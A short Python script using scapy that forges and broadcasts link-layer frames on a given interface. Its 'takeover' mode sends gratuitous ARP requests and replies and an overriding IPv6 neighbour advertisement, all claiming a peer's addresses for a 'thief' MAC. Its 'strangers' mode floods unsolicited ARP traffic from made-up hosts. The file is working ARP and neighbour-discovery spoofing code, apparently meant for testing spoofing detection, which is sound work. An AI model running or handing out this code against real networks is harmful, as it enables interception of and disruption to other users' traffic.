# SPDX-License-Identifier: BSD-3-Clause
"""Frames that no honest neighbour sends. Usage: forge.py IFACE takeover PEER4 PEER6 OWN4 |
strangers"""

import sys

from scapy.all import ARP, ICMPv6ND_NA, ICMPv6NDOptDstLLAddr, Ether, IPv6, conf, sendp

conf.verb = 0
THIEF = "02:66:6f:72:67:65"
ALL = "ff:ff:ff:ff:ff:ff"


def takeover(peer4, peer6, own4):
    """Four ways to say that the peer has moved to the thief."""
    return [
        Ether(src=THIEF, dst=ALL) / ARP(op=1, hwsrc=THIEF, psrc=peer4, pdst=peer4),
        Ether(src=THIEF, dst=ALL) / ARP(op=2, hwsrc=THIEF, psrc=peer4, hwdst=ALL, pdst=peer4),
        Ether(src=THIEF, dst=ALL) / ARP(op=2, hwsrc=THIEF, psrc=peer4, hwdst=ALL, pdst=own4),
        Ether(src=THIEF, dst="33:33:00:00:00:01") / IPv6(src=peer6, dst="ff02::1", hlim=255)
        / ICMPv6ND_NA(tgt=peer6, R=0, S=0, O=1) / ICMPv6NDOptDstLLAddr(lladdr=THIEF),
    ]


def strangers():
    """Requests for others, and answers that nobody asked for."""
    return [
        Ether(src=f"02:00:00:00:02:{i:02x}", dst=ALL)
        / ARP(op=op, hwsrc=f"02:00:00:00:02:{i:02x}", psrc=f"192.0.2.{200 + i}", pdst="192.0.2.1")
        for i in range(1, 40) for op in (1, 2)
    ]


def main():
    iface, what, *addresses = sys.argv[1:]
    frames = {"takeover": takeover, "strangers": strangers}[what](*addresses)
    sendp(frames, iface=iface)


main()
